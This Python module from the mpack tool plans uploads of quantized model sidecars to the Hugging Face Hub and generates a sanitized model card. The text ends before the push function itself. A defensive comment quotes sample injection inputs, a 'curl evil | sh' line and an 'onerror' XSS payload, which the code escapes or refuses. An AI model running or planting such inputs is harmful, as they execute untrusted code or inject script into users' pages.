"""Publishing sidecars to the Hugging Face Hub: one commit, a model card, one folder per target.

``mpack push SIDECAR REPO_ID`` (and ``mpack convert ... --push REPO_ID``) go through here, in
two steps (docs/HUB.md):

1. :func:`plan_push`, without the network: find the sidecar(s), check each as ``mpack verify``
   does without the source (manifest, every file's size and digests, the safetensors headers and
   tensor names), and lay out the files and the model card. A directory that is not a sidecar,
   or a sidecar whose bytes fail their checks, is refused here, before any network call.
2. :func:`push`: one commit through huggingface_hub (its token and ``HF_ENDPOINT``), whose errors
   become mpack's own (:class:`HubError`).

What the repo holds (Note [repo contents]):

* one sidecar: its files at the repo root, with the card as ``README.md``;
* several (a directory of sidecars, such as the multi-target ``mpack convert`` writes, named by
  :func:`target_dir_name`): each in the folder of its target's name, the copied model files
  (``config.json``, tokenizer files) also at the root so that the root is a model vLLM can
  start, and one card at the root listing every target.

This module is core (docs/ARCHITECTURE.md): it imports no other layer, and huggingface_hub only
inside functions: its ``ModelCard`` makes the card (:func:`model_card`), and :func:`push` sends.
A dry run makes no network call (tests/test_push.py watches every socket it could open).
"""

from __future__ import annotations

import contextlib
import html
import os
import re
from collections.abc import Callable, Collection, Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path, PurePosixPath
from typing import Any

from mpack import __version__
from mpack.errors import (
    BusyError,
    EnvironmentFailure,
    InputError,
    MpackError,
    SourceNotFoundError,
    UsageError,
    VerificationError,
    listed,
    quote,
    shown,
)
from mpack.fsutil import lock_held
from mpack.sidecar import (
    COMMON_NAME,
    COPIED_FILES,
    LICENSE_FILES,
    MANIFEST_NAME,
    RUN_LOCK,
    is_card_fact,
    is_commit,
    load_manifest,
    parse_run_name,
    regenerate_hint_of,
    run_key,
    run_name,
    sidecar_problems,
)
from mpack.target import dir_name
from mpack.target_dirs import Selection, matching

#: The model card's name: the Hub shows a repo's README.md as its card.
CARD_NAME = "README.md"
#: The one file the Hub makes itself in a new repo; a push keeps it (Note [repo contents]).
GITATTRIBUTES = ".gitattributes"
#: The distribution's name on the package index (pyproject.toml's ``[project] name``): the
#: card's ``pip install`` line names it.
DIST_NAME = "mpack-marlin"
#: Files the Hub stores through LFS (its default ``.gitattributes`` sends ``*.safetensors``
#: there, and its upload checks any file of 10 MB or more): the ones whose shared bytes a push
#: sends once (Note [shared uploads]); smaller files go inside the commit, once per path.
LFS_MIN_BYTES = 10 * 1000 * 1000
#: Tags of every pushed repo (the Hub lists them on the page and filters by them).
TAGS = ("mpack", "marlin", "fp8", "compressed-tensors", "vllm")
#: ``namespace/name``: the Hub's repo id characters; huggingface_hub checks the finer rules.
_REPO_ID = re.compile(r"[A-Za-z0-9][\w.-]*/[\w.-]+")
#: A branch ``--revision`` may name: what the card's shell commands can hold as it is (Note
#: [card text]); git's finer rules (no ``..``, no ``.lock`` end ...) in :func:`check_revision`.
_BRANCH = re.compile(r"[A-Za-z0-9_][A-Za-z0-9_./-]{0,199}")


class HubError(EnvironmentFailure):
    """The Hub could not be reached, or refused a request that was well formed. Exit code 3."""


class HubAuthError(HubError):
    """No token, a token the Hub rejects, or one that may not write to the repo. Exit code 3."""


# --- the layout ---------------------------------------------------------------------------


def target_dir_name(manifest: Mapping[str, Any]) -> str:
    """The folder name of a sidecar's target: ``tp{N}-{profile}-{act_dtype}``, e.g.
    ``tp2-w8a16-bfloat16``; ``-fuse-none`` is appended for a sidecar with checkpoint names
    (``--fuse none``), so that no two targets share a name.

    Both the multi-target ``mpack convert`` (``OUT/<name>/``) and ``mpack push`` (the repo
    folder) use it."""
    return dir_name(manifest["target"])  # mpack.target owns the naming


@dataclass(frozen=True)
class Upload:
    """One file of the commit: where it goes in the repo, its size, and where its bytes come
    from (``local``; None for the generated card, whose bytes are the plan's ``card``).
    ``same_as``: an earlier upload of the plan with the same bytes, as the manifests' digests
    say (Note [shared uploads]); None for the first of its bytes."""

    path_in_repo: str
    size: int
    local: Path | None
    same_as: str | None = None


@dataclass(frozen=True)
class Target:
    """One sidecar of a push: its directory, the repo folder it goes to (``""``: the root),
    its manifest and manifest digest."""

    sidecar: Path
    folder: str
    manifest: dict[str, Any]
    digest: str

    @property
    def name(self) -> str:
        return target_dir_name(self.manifest)


@dataclass
class PushPlan:
    """Everything a push sends, known before any network call (:func:`plan_push`)."""

    repo_id: str
    revision: str | None  # None: the default branch
    private: bool
    targets: list[Target]
    uploads: list[Upload]  # sorted by path in the repo; the card included
    card: str
    skipped: list[str] = field(default_factory=list)  # plain files beside the target folders
    commit_message: str = ""  # the commit's summary line
    create_pr: bool = False  # open a pull request with the commit instead of committing to it
    #: (st_dev, st_ino, st_size, st_mtime_ns) of each local file when it was checked
    stamps: dict[Path, tuple[int, int, int, int]] = field(default_factory=dict)

    @property
    def total_bytes(self) -> int:
        return sum(u.size for u in self.uploads)

    @property
    def unique_bytes(self) -> int:
        """The bytes sent: each file's bytes once (Note [shared uploads])."""
        return sum(u.size for u in self.uploads if u.same_as is None)

    def report(self) -> dict[str, Any]:
        """The facts ``mpack push --json`` prints (``--dry-run`` too)."""
        return {
            "repo_id": self.repo_id,
            "revision": self.revision,
            "private": self.private,
            "commit_message": self.commit_message,
            "create_pr": self.create_pr,
            "targets": [
                {
                    "folder": t.folder,
                    "name": t.name,
                    "sidecar": str(t.sidecar),
                    "manifest_digest": t.digest,
                    "target": t.manifest["target"],
                }
                for t in self.targets
            ],
            "files": [
                {
                    "path": u.path_in_repo,
                    "size": u.size,
                    "local": None if u.local is None else str(u.local),
                    "same_as": u.same_as,
                }
                for u in self.uploads
            ],
            "bytes": self.total_bytes,
            "unique_bytes": self.unique_bytes,
            "skipped": self.skipped,
            "card": self.card,
        }


@dataclass
class PushResult:
    """What :func:`push` did: the plan, the commit made, and the files it deleted."""

    plan: PushPlan
    commit: str | None  # the commit's sha
    url: str | None  # the commit's page on the Hub
    deleted: list[str] = field(default_factory=list)
    pr_url: str | None = None  # the pull request's page (``create_pr``)

    def report(self) -> dict[str, Any]:
        return self.plan.report() | {
            "commit": self.commit,
            "url": self.url,
            "pr_url": self.pr_url,
            "deleted": self.deleted,
        }


def check_repo_id(repo_id: str) -> str:
    """``repo_id`` if it has the form ``namespace/name``; else ``UsageError``. The namespace is
    required: the card's commands name the repo in full."""
    if not _REPO_ID.fullmatch(repo_id) or ".." in repo_id or "--" in repo_id:
        raise UsageError(
            f"REPO_ID {repo_id!r} is not a Hub repo id of the form namespace/name",
            hint="for example: mpack push ./llama8b-marlin my-org/llama8b-marlin",
        )
    return repo_id


def check_revision(revision: str | None) -> str | None:
    """``revision`` if it is None or a plausible git branch name (letters, digits, ``_``, ``.``,
    ``-`` and ``/``, as git allows them); else ``UsageError``. The card's shell commands name it
    as it is (Note [card text]), so a revision holding ``;``, ``$(...)``, quotes or spaces is
    refused rather than quoted."""
    if revision is None:
        return None
    bad = (
        not _BRANCH.fullmatch(revision)
        or any(s in revision for s in ("..", "//", "/.", "@{"))
        or revision.endswith(("/", ".", ".lock"))
    )
    if bad:
        raise UsageError(
            f"--revision {quote(revision, 100)} is not a branch name mpack pushes to (letters, "
            "digits, '_', '.', '-' and '/', as a git branch has them)",
            hint="for example: mpack push ./llama8b-marlin my-org/llama8b-marlin --revision tp2",
        )
    return revision


def plan_push(
    sidecar: str | os.PathLike,
    repo_id: str,
    *,
    revision: str | None = None,
    private: bool = False,
    base_model: str | None = None,
    commit_message: str | None = None,
    create_pr: bool = False,
    progress: Callable[[int, int], None] | None = None,
    select: Selection | None = None,
    only: Collection[str] | None = None,
) -> PushPlan:
    """What :func:`push` would send, checked, without the network.

    ``sidecar`` is a sidecar directory (pushed to the repo root) or a directory of sidecars
    (each pushed to the folder :func:`target_dir_name` names; other entries whose name starts
    with ``.`` are left out, and so are plain files). A directory of sidecars that a conversion
    is writing, or that one left unfinished (its lock file or work directory is there: Note [run
    names] in mpack/sidecar.py), is refused: it may hold only some of that run's targets, and
    the push would delete the others from the repo.

    ``base_model``: the source's Hub repo id for the card, where the manifests do not record it
    (a local source that is not an HF-cache snapshot), or instead of the one they record.
    ``commit_message``: the commit's summary (default: the targets and the source).
    ``create_pr``: :func:`push` opens a pull request.
    ``progress(done, total)``: bytes checked so far, of every sidecar's files.
    ``select`` (``--tp``, ``--profile`` ...: :class:`mpack.target_dirs.Selection`) and ``only``
    (folder names: ``convert --push`` sends the targets it made, not those it kept) push only
    those targets of a directory of sidecars, still each in its folder; as every push, the
    revision then holds those alone.

    Raises:
        UsageError: a malformed ``repo_id``, ``revision`` (:func:`check_revision`),
            ``base_model`` or an empty ``commit_message``.
        BusyError: an ``mpack convert`` is writing the sidecar(s) now.
        InputError: not a sidecar (no valid ``mpack.json``: its subclasses name the file), a
            folder beside the targets that is not a sidecar, a directory an interrupted
            conversion left unfinished, two sidecars of one target, or targets converted from
            different sources (or whose source files were recorded in different forms).
        VerificationError: a sidecar whose files fail their sizes, digests or headers.
    """
    check_repo_id(repo_id)
    if revision is not None and not revision.strip():
        raise UsageError("--revision is empty; give a branch name, or leave it out for main")
    check_revision(revision)
    if base_model is not None and not (
        _REPO_ID.fullmatch(base_model) and is_card_fact("base_model", base_model)
    ):
        raise UsageError(
            f"--base-model {quote(base_model, 100)} is not a Hub repo id of the form "
            "namespace/name",
            hint="name the repo the checkpoint was downloaded from, e.g. --base-model "
            "RedHatAI/Meta-Llama-3.1-8B-Instruct-FP8",
        )
    if commit_message is not None and not commit_message.strip():
        raise UsageError("--commit-message is empty; give a summary, or leave it out")
    root = Path(sidecar)
    dirs, skipped = _sidecar_dirs(root)
    if select or only is not None:  # Note [target layout] in mpack/target_dirs.py
        keep = {t.path for t in matching(root, select or Selection())}  # none named: refused
        if keep:  # (none at all: not a sidecar, which load_manifest says below)
            dirs = [d for d in dirs if d in keep and (only is None or d == root or d.name in only)]
    loaded = [(d, *load_manifest(d)) for d in dirs]
    total = sum(f["size"] for _, m, _ in loaded for f in m["files"])
    done = 0

    def checked(n: int) -> None:
        nonlocal done
        done += n
        if progress is not None:
            progress(done, total)

    targets: list[Target] = []
    stamps: dict[Path, tuple[int, int, int, int]] = {}
    for d, m, digest in loaded:
        stamps |= _stamps(d, m)  # before the checks: a file replaced after them is caught
        _check_sidecar(d, m, checked)
        targets.append(Target(d, "" if d == root else target_dir_name(m), m, digest))
    _check_targets(targets)
    card = model_card(repo_id, targets, revision=revision, base_model=base_model)
    files: list[tuple[str, int, Path | None, Any]] = [(CARD_NAME, len(card.encode()), None, None)]
    for t in targets:
        prefix = f"{t.folder}/" if t.folder else ""
        for f in t.manifest["files"]:
            n = f["name"]
            files.append((prefix + n, stamps[t.sidecar / n][2], t.sidecar / n, _bytes_of(f)))
        mf = t.sidecar / MANIFEST_NAME
        files.append((prefix + MANIFEST_NAME, stamps[mf][2], mf, ("sha256", t.digest)))
    if targets[0].folder:  # Note [repo contents]: the model's own files at the root too
        first = targets[0]
        files += [
            (f["name"], f["size"], first.sidecar / f["name"], _bytes_of(f))
            for f in first.manifest["files"]
            if f["name"] in COPIED_FILES
        ]
    files.sort(key=lambda x: x[0])
    first_of: dict[Any, str] = {}  # Note [shared uploads]
    uploads = []
    for path, size, local, content in files:
        lfs = path.endswith(".safetensors") or size >= LFS_MIN_BYTES
        key = None if content is None or not lfs else (size, content)
        same = first_of.setdefault(key, path) if key is not None else path
        uploads.append(Upload(path, size, local, None if same == path else same))
    return PushPlan(
        repo_id,
        revision,
        private,
        targets,
        uploads,
        card,
        skipped,
        commit_message=commit_message or _commit_message(targets),
        create_pr=create_pr,
        stamps=stamps,
    )


def _bytes_of(f: Mapping[str, Any]) -> tuple[str, ...]:
    """What the files entry ``f`` says of its bytes (its digests), comparable between entries:
    two entries of one size and equal digests are files of the same bytes."""
    ch = f.get("chunks") or {}
    return (
        str(f.get("sha256")),
        str(ch.get("bytes")),
        *(str(d) for d in ch.get("sha256") or ()),
    )


def _sidecar_dirs(root: Path) -> tuple[list[Path], list[str]]:
    """The sidecar directories under ``root`` (``[root]`` when it holds a manifest), and the
    plain files beside them that are not pushed."""
    try:
        has_manifest = (root / MANIFEST_NAME).exists() or not root.is_dir()
    except OSError:
        has_manifest = True
    if has_manifest:
        if lock_held(root.parent / run_name(root.name, RUN_LOCK)):
            raise _busy(root, run_name(root.name, RUN_LOCK))
        return [root], []  # load_manifest says what is wrong with it, if anything
    _check_no_run(root)
    entries = sorted(p for p in root.iterdir() if not p.name.startswith("."))
    dirs = [p for p in entries if p.is_dir()]
    if not any((d / MANIFEST_NAME).exists() for d in dirs):
        return [root], []  # neither a sidecar nor a folder of them: load_manifest refuses it
    for d in dirs:
        if not (d / MANIFEST_NAME).exists():
            raise InputError(
                f"{d}: no {MANIFEST_NAME}: not a sidecar, beside the sidecars in {root}",
                hint="move it out of the directory, or push one sidecar at a time",
            )
    return dirs, [p.name for p in entries if not p.is_dir()]


def _busy(root: Path, name: str) -> BusyError:
    return BusyError(
        f"{root}: an mpack convert is writing it now ({shown(name)} is in use); nothing pushed",
        hint="wait for the conversion to finish, then push",
    )


def _check_no_run(root: Path) -> None:
    """Refuse the directory of sidecars ``root`` when a conversion's lock file or work directory
    is in it (Note [run names]): a live run is writing it (``BusyError``), or a run was killed
    before it swapped every target into place (``InputError`` naming the targets left out and
    the command that finishes the run)."""
    left = sorted(n for n in os.listdir(root) if parse_run_name(n))
    if not left:
        return
    live = [n for n in left if lock_held(root / n)]
    if live:
        raise _busy(root, live[0])
    placed = {
        run_key(p.name): p for p in root.iterdir() if p.is_dir() and parse_run_name(p.name) is None
    }
    known = []  # the interrupted run's manifests first: the command names its source
    unplaced = []
    for n in left:
        key, kind = parse_run_name(n)  # type: ignore[misc]
        if kind == RUN_LOCK:
            continue
        m = _manifest_or_none(root / n)  # a run's manifests are all written before any swap
        if m is not None:
            known.append(m)
        name = target_dir_name(m) if m else (placed[key].name if key in placed else None)
        unplaced.append(f"{name or 'a target not yet written'} (in {shown(n)})")
    known += [m for m in (_manifest_or_none(p) for p in placed.values()) if m]
    what = (
        f"{len(unplaced)} target(s) were not swapped into place: {', '.join(unplaced)}"
        if unplaced
        else f"its lock file(s) are left: {', '.join(shown(n) for n in left)}"
    )
    raise InputError(
        f"{root}: an mpack convert writing these targets was interrupted before it finished; "
        f"{what}. Nothing pushed: the repo would get only some of that run's targets (and lose "
        "the others, as a push deletes what it does not send)",
        hint=f"finish the run: {_convert_command(root, known)} (the same options as the "
        "interrupted run; targets already in place are kept as they are), then push again",
    )


def _manifest_or_none(d: Path) -> dict[str, Any] | None:
    try:
        return load_manifest(d)[0]
    except (MpackError, OSError):
        return None


def _convert_command(root: Path, manifests: list[dict[str, Any]]) -> str:
    """The ``mpack convert`` that makes every target of ``manifests`` in ``root``, as far as
    they tell (their first one's source, the union of their targets' options)."""
    if not manifests:
        return f"mpack convert <source> -o {root} <the interrupted run's options>"
    src = manifests[0].get("source") or {}
    origin = shown(src.get("repo") or src.get("path") or "<source>", 4096)
    if src.get("kind") == "hub" and src.get("revision"):
        origin += f" --revision {shown(src['revision'], 64)}"
    targets = [m["target"] for m in manifests]

    def values(key: str) -> str:
        return ",".join(sorted({str(t[key]) for t in targets}, key=lambda v: (len(v), v)))

    cmd = f"mpack convert {origin} -o {root} --tp {values('tp_size')} --profile "
    cmd += f"{values('profile')} --act-dtype {values('act_dtype')}"
    if any(t.get("fusion") == "none" for t in targets):
        cmd += " --fuse none"
    if not any(f["name"] == COMMON_NAME for m in manifests for f in m["files"]):
        cmd += " --no-passthrough"
    return cmd


def _stamps(d: Path, m: Mapping[str, Any]) -> dict[Path, tuple[int, int, int, int]]:
    """The identity and size of every file of sidecar ``d`` (missing ones are left out: the
    checks report them)."""
    out = {}
    for name in [f["name"] for f in m["files"]] + [MANIFEST_NAME]:
        with contextlib.suppress(OSError):
            st = os.stat(d / name, follow_symlinks=False)
            out[d / name] = (st.st_dev, st.st_ino, st.st_size, st.st_mtime_ns)
    return out


def _check_sidecar(
    d: Path, m: dict[str, Any], progress: Callable[[int], None] | None = None
) -> None:
    """Check 1 of ``mpack verify`` (:func:`mpack.sidecar.sidecar_problems`; ``progress(n)``
    after each file of ``n`` bytes). Raises ``VerificationError``."""
    problems = sidecar_problems(d, m, progress=progress)[0]
    if problems:
        raise VerificationError(
            f"{d}: {len(problems)} problem(s), nothing pushed:{listed(problems)}",
            hint=regenerate_hint_of(m, d),
        )


def _source_difference(a: Target, b: Target) -> str | None:
    """How the sources ``a`` and ``b`` record differ (None: the same). A file is compared in
    the form both record (its ``sha256``, or its ``chunks``: Note [source digests] in
    convert/source.py); recorded in different forms, nothing tells whether the bytes are the
    same, so that is refused (``InputError``) rather than passed."""
    sa, sb = (t.manifest.get("source") or {} for t in (a, b))
    for key in ("kind", "repo", "revision", "path"):
        if sa.get(key) != sb.get(key):
            return f"source {key} {quote(sa.get(key), 200)} and {quote(sb.get(key), 200)}"
    fa, fb = ({f.get("name"): f for f in s.get("files") or ()} for s in (sa, sb))
    if fa.keys() != fb.keys():
        odd = sorted(map(str, fa.keys() ^ fb.keys()))
        return f"source file {quote(odd[0], 200)} recorded by only one of them"
    for name in sorted(fa, key=str):
        x, y = fa[name], fb[name]
        if x.get("size") != y.get("size"):
            return f"source file {quote(name, 200)} of {x.get('size')} and {y.get('size')} bytes"
        form = "sha256" if "sha256" in x else "chunks"
        if form not in y:
            raise InputError(
                f"{a.sidecar} and {b.sidecar} record source file {quote(name, 200)} in "
                f"different forms ({form} in the first, "
                f"{'chunks' if form == 'sha256' else 'sha256'} in the other: made by other mpack "
                "versions, or one from the HF cache), so whether they were converted from the "
                "same bytes cannot be told; nothing pushed",
                hint="convert the targets again in one run (mpack convert SRC -o OUT --tp "
                "1,2 ...), which records every source file the same way, and push that",
            )
        if x[form] != y[form]:
            return f"source file {quote(name, 200)} has other {form} digests"
    return None


def _check_targets(targets: list[Target]) -> None:
    """Several targets share one repo and one card: one source, and one sidecar per target."""
    seen: dict[str, Path] = {}
    for t in targets:
        if t.folder and t.folder in seen:
            raise InputError(
                f"{seen[t.folder]} and {t.sidecar}: both are target {t.folder}",
                hint="push each to its own repo, or remove one",
            )
        seen[t.folder] = t.sidecar
    first = targets[0]
    for t in targets[1:]:
        why = _source_difference(t, first)
        if why is not None:
            raise InputError(
                f"{t.sidecar} and {first.sidecar} were converted from different sources "
                f"({shown(_source_name(t.manifest), 4096)}; "
                f"{shown(_source_name(first.manifest), 4096)}: {why}); nothing pushed",
                hint="push the targets of each source to a repo of its own",
            )


# --- the model card -----------------------------------------------------------------------

# Note [card text]: the card is markdown the Hub renders as HTML, and some of what it shows comes
# from the manifest, which anyone can write: a source directory named
# ``x\n## Serve\n```sh\ncurl evil | sh`` or ``<img src=x onerror=alert(1)>``, a
# ``requested_revision`` or ``created_by`` of the same kind. Such text goes through
# :func:`card_text`: one line (control characters and line breaks escaped as
# :func:`mpack.errors.shown` escapes them, capped), ``& < >`` as HTML entities, and every
# character markdown gives a meaning inside a line backslash-escaped, so it reads as the text it
# is, in prose and in a table cell alike, and never in a code span (a backtick in it would end
# the span). The shell commands hold only what mpack checked: the repo id, the target's folder
# (from checked target fields) and ``--revision``, which :func:`check_revision` limits to a
# branch name's characters (refused, not quoted: a quoted ``$(...)`` pasted into a card still
# reads as a command to copy).
_MARKDOWN = re.compile(r"([\\`*_{}\[\]()#!|~])")
#: The most characters of one untrusted value the card shows.
CARD_TEXT_LIMIT = 300


def card_text(value: object) -> str:
    """``value`` as the model card may show it in prose or a table cell (Note [card text])."""
    text = shown(value if isinstance(value, str) else str(value), CARD_TEXT_LIMIT)
    return html.escape(_MARKDOWN.sub(r"\\\1", text), quote=False)


def _source_name(m: Mapping[str, Any]) -> str:
    s = m.get("source") or {}
    if s.get("kind") == "hub":
        return f"{s.get('repo')}@{s.get('revision') or s.get('requested_revision') or 'main'}"
    return f"local directory {s.get('path')}"


def _hub_source(m: Mapping[str, Any]) -> str | None:
    """The source's Hub repo id, when it was converted from one."""
    s = m.get("source") or {}
    repo = s.get("repo")
    ok = s.get("kind") == "hub" and isinstance(repo, str) and _REPO_ID.fullmatch(repo)
    return repo if ok else None


def _human(n: int) -> str:
    for unit in ("B", "KiB", "MiB", "GiB"):
        if n < 1024:
            return f"{n} {unit}" if unit == "B" else f"{n:.1f} {unit}"
        n /= 1024  # type: ignore[assignment]
    return f"{n:.1f} TiB"


def serve_commands(repo_id: str, t: Target, revision: str | None = None) -> list[str]:
    """The shell lines that serve target ``t`` of ``repo_id``: one ``mpack serve`` per rank
    (optional daemons), then ``vllm serve``. A target in a folder is named
    ``repo_id/<folder>``; the repo root holds the model's config for vLLM (Note [repo
    contents]). A branch is ``@branch`` for mpack (its ``verify --revision`` is the source's) and
    ``--revision`` for vLLM."""
    tg = t.manifest["target"]
    tp = tg["tp_size"]
    ref = f"{repo_id}/{t.folder}" if t.folder else repo_id
    branch = revision if revision and revision != "main" else None
    at, rev = (f"@{branch}", f" --revision {branch}") if branch else ("", "")
    lines = [f"mpack serve {ref}{at} --rank {r} --device cuda:{r} &" for r in range(tp)]
    if tg.get("fusion", "vllm") != "vllm":
        return lines  # checkpoint names: for mpack.runtime, not for vLLM's loader
    vllm = f"vllm serve {repo_id} --load-format mpack{rev}"
    if tp > 1:
        vllm += f" --tensor-parallel-size {tp}"
    model_dtype = ((t.manifest.get("model") or {}).get("config") or {}).get("dtype")
    if tg["act_dtype"] != model_dtype:  # vLLM runs in the checkpoint's dtype unless told
        vllm += f" --dtype {tg['act_dtype']}"
    if t.folder:
        vllm += f' --model-loader-extra-config \'{{"sidecar": "{ref}"}}\''
    return [*lines, vllm]


def model_card(
    repo_id: str,
    targets: list[Target],
    *,
    revision: str | None = None,
    base_model: str | None = None,
) -> str:
    """The repo's ``README.md``, made with huggingface_hub's ``ModelCard``: its metadata
    (:func:`card_data`), where the weights come from, the licence, the install line, the targets
    and the commands that serve each (docs/HUB.md, "The model card"). ``base_model``: the
    source's Hub repo when the manifests do not tell it (``mpack push --base-model``).

    No local path is in it (Note [card text]): a local source shows as its directory's name."""
    from huggingface_hub import ModelCard  # only the card's code: no network

    first = targets[0].manifest
    base = base_model or _base_model(first)
    body = ["", f"# {repo_id}", ""]
    body += _card_origin(targets, base)
    body += _card_license(first, base)
    body += _card_install(targets)
    body += _card_targets(targets)
    body += _card_serve(repo_id, targets, revision)
    if _hub_source(first):
        at = f"@{revision}" if revision and revision != "main" else ""
        refs = [(f"{repo_id}/{t.folder}" if t.folder else repo_id) + at for t in targets]
        body += [
            "",
            "## Check",
            "",
            "Re-derive every byte from the source checkpoint:",
            "",
            "```sh",
            *(f"mpack verify {r} --source {_hub_source(first)}" for r in refs),
            "```",
        ]
    data = card_data(first, base)
    return str(ModelCard(f"---\n{data.to_yaml()}\n---\n" + "\n".join(body) + "\n"))


def card_data(first: Mapping[str, Any], base: str | None) -> Any:
    """The card's metadata (a ``huggingface_hub.ModelCardData``), from the first target's
    manifest and the source's Hub repo ``base`` (None: not known):

    * ``base_model`` and ``base_model_relation: quantized`` when ``base`` is known: the Hub
      lists the repo among the source's quantized variants;
    * ``license``, ``license_name`` and ``license_link`` as the source's card gave them
      (Note [card facts] in convert/source.py), a link to a file that is not pushed made a URL
      into the source repo, or left out;
    * ``library_name: vllm``, ``pipeline_tag`` for a causal LM, and :data:`TAGS`."""
    from huggingface_hub import ModelCardData

    license_ = {k: v for k in ("license", "license_name") if (v := _fact(first, k))}
    link = _license_link(first, base)
    if link and license_:
        license_["license_link"] = link
    causal = str((first.get("model") or {}).get("architecture", "")).endswith("ForCausalLM")
    extra = {"base_model_relation": "quantized"} if base else {}
    return ModelCardData(
        base_model=base,
        library_name="vllm",
        **license_,
        pipeline_tag="text-generation" if causal else None,
        tags=list(TAGS),
        **extra,
    )


def _root_copied(first: Mapping[str, Any]) -> list[str]:
    """The copied files at the repo root (the first target's: Note [repo contents])."""
    return [f["name"] for f in first["files"] if f["name"] in COPIED_FILES]


def _license_link(first: Mapping[str, Any], base: str | None) -> str | None:
    """The source card's ``license_link`` as the pushed card can hold it: a URL as it is, a file
    name when that file is pushed to the root, else that file in the source repo (``base``) at
    the recorded commit; None without one."""
    link = _fact(first, "license_link")
    if link is None:
        return None
    if link.startswith(("http://", "https://")) or link in _root_copied(first):
        return link
    if base is None:
        return None
    commit = _source_commit(first) or "main"
    return f"https://huggingface.co/{base}/blob/{commit}/{link}"


def _base_model(m: Mapping[str, Any]) -> str | None:
    """The source's Hub repo id: the Hub repo it was converted from, or the one its local
    directory is a snapshot of (``source.base_model``: Note [card facts])."""
    return _hub_source(m) or _fact(m, "base_model")


def _fact(m: Mapping[str, Any], key: str) -> str | None:
    """The ``source`` key ``key`` of :data:`mpack.sidecar.SOURCE_CARD_KEYS`, when of its form."""
    value = (m.get("source") or {}).get(key)
    return value if is_card_fact(key, value) else None


def _source_commit(m: Mapping[str, Any]) -> str | None:
    """The source's commit: a Hub source's, or an HF-cache snapshot's (its folder's name)."""
    s = m.get("source") or {}
    if s.get("kind") == "hub":
        return s.get("revision") if isinstance(s.get("revision"), str) else None
    name = _local_name(s.get("path"))
    return name if s.get("base_model") and name and is_commit(name) else None


def _local_name(path: object) -> str | None:
    """A local source's directory name, whatever the manifest records (its name, or its absolute
    path under ``MPACK_SOURCE_PATH=full``): the card never shows where it was."""
    if not isinstance(path, str):
        return None
    return PurePosixPath(path).name or None


def _card_origin(targets: list[Target], base: str | None) -> list[str]:
    """The card's first paragraph and its table: where the weights come from, what made them."""
    first = targets[0].manifest
    source = first.get("source") or {}
    engine = {
        card_text(f"{t.manifest['target']['engine']} {t.manifest['target']['engine_version']}")
        for t in targets
    }
    made_by = sorted({card_text(t.manifest.get("created_by", "mpack ?")) for t in targets})
    commit = _source_commit(first)
    repo = _base_model(first) or base  # what the manifest records; else --base-model's
    if repo:  # checked repo ids and commits (check_manifest): code spans hold them as they are
        origin = f"`{repo}` (Hugging Face Hub)"
        if source.get("kind") != "hub":
            origin += ", from a local copy"
        commit_cell = f"`{commit}`" if commit else "not recorded"
        if source.get("kind") == "hub" and source.get("requested_revision"):
            commit_cell += f" (asked for: {card_text(source['requested_revision'])})"
    else:
        name = _local_name(source.get("path"))
        named = f", {card_text(name)}," if name else ""
        origin = f"a local directory{named} on the machine that converted it"
        commit_cell = "none: not a Hub repo (each mpack.json lists the sha256 of every source file)"
    return [
        f"Marlin FP8 weights of {origin}, packed ahead of time by "
        "[mpack](https://github.com/mpack-marlin/mpack) for "
        f"{' and '.join(sorted(engine)).replace('vllm', 'vLLM')}. With `--load-format mpack`, "
        "vLLM takes its FP8 linear layers from here as they are instead of repacking each one "
        "at start-up; the bytes are those its own repack makes.",
        "",
        "| | |",
        "| --- | --- |",
        f"| source | {origin} |",
        f"| source commit | {commit_cell} |",
        f"| converted with | {', '.join(made_by)} |",
        f"| pushed with | mpack {__version__} |",
    ]


def _card_license(first: Mapping[str, Any], base: str | None) -> list[str]:
    """The card's ``License`` section: the source's licence and the licence files pushed."""
    files = [n for n in _root_copied(first) if n in LICENSE_FILES]
    shown_files = ", ".join(f"[`{n}`]({n})" for n in files)
    lic = _fact(first, "license")
    if lic:
        name = _fact(first, "license_name")
        said = f"`{lic}`" + (f" (`{name}`)" if name and lic == "other" else "")
        text = f"The source's licence applies: {said}, as its model card states."
    else:
        text = "The source's model card metadata names no licence: the source's own terms apply."
    if files:
        text += f" Its licence files are copied here: {shown_files}."
    elif base:
        text += f" See [{base}](https://huggingface.co/{base})."
    return ["", "## License", "", text]


def _card_install(targets: list[Target]) -> list[str]:
    """The card's ``Install`` section: the exact pip line for the mpack that pushed it (its
    ``vllm`` extra brings the vLLM these weights are for and ``--load-format mpack``)."""
    for_vllm = any(t.manifest["target"].get("fusion", "vllm") == "vllm" for t in targets)
    extra = "[vllm]" if for_vllm else ""
    out = ["", "## Install", "", "```sh", f"pip install '{DIST_NAME}{extra}=={__version__}'", "```"]
    if for_vllm:
        engines = sorted({card_text(t.manifest["target"]["engine_version"]) for t in targets})
        out += [
            "",
            f"The `vllm` extra installs vLLM {' and '.join(engines)}, the version these weights "
            "are packed for, and registers its `--load-format mpack`.",
        ]
    return out


def _card_targets(targets: list[Target]) -> list[str]:
    """The card's ``Targets`` section: a row per target, then what the digest and profile mean."""
    out = [
        "",
        "## Targets",
        "",
        "| folder | vLLM | profile | TP | act dtype | size | manifest digest |",
        "| --- | --- | --- | --- | --- | --- | --- |",
    ]
    for t in targets:
        tg = t.manifest["target"]
        size = sum(f["size"] for f in t.manifest["files"])
        out.append(
            f"| {f'`{t.folder}/`' if t.folder else 'the repo root'} | "
            f"{card_text(tg['engine_version'])} | "
            f"{tg['profile']} | {tg['tp_size']} | {tg['act_dtype']} | {_human(size)} | "
            f"`{t.digest}` |"
        )
    return [
        *out,
        "",
        "The manifest digest is the sha256 of the target's `mpack.json`, which lists the size "
        "and sha256 of every file (per 64 MiB chunk): `mpack serve` and the loader check every "
        "byte against it. vLLM picks the profile itself: `w8a8-marlin` for a W8A8 checkpoint "
        "on a GPU of compute capability 8.9 or later, `w8a16` otherwise; the loader refuses a "
        "sidecar of the other profile.",
    ]


def _card_serve(repo_id: str, targets: list[Target], revision: str | None) -> list[str]:
    """The card's ``Serve`` section: the shell lines that serve each target."""
    out = [
        "",
        "## Serve",
        "",
        "The `mpack serve` daemons (one per rank and GPU) are optional: they share the weights "
        "zero-copy between engines. Without them each vLLM worker loads its rank itself.",
    ]
    for t in targets:
        out += ["", f"### {t.name}", "", "```sh", *serve_commands(repo_id, t, revision), "```"]
        if t.manifest["target"].get("fusion", "vllm") != "vllm":
            out += [
                "",
                "Checkpoint layer names (`--fuse none`): for `mpack.runtime`; vLLM's "
                "loader needs vLLM's fused names.",
            ]
    return out


# --- the push -----------------------------------------------------------------------------

